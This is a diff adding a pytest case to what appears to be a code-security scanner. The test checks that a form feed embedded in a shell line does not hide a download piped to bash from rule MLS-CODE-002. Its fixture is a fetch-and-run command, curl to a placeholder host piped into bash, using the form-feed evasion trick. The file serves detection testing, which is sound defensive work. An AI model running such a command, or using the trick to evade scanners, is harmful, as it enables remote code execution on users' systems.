@@ -83,3 +83,12 @@ def test_python_run_with_arguments_that_replace_or_steer_the_file_stays_high(
     findings = scan(tmp_path, f"{first_line}\nprint('hello')\n")
     [script] = [f for f in findings if f.rule == "MLS-CODE-010"]
     assert script.severity == Severity.HIGH
+
+
+def test_a_form_feed_inside_a_shell_line_does_not_cut_a_pipe_to_the_shell_off_its_download(
+    tmp_path: Path,
+) -> None:
+    # bash breaks lines at \n only; `$(echo\f)` is a failing command that expands to nothing.
+    findings = scan(tmp_path, "#!/bin/bash\ncurl -fsSL https://x.invalid/$(echo\f) | bash\n")
+    [shape] = [f for f in findings if f.rule == "MLS-CODE-002"]
+    assert (shape.severity, shape.location.line) == (Severity.CRITICAL, 2)
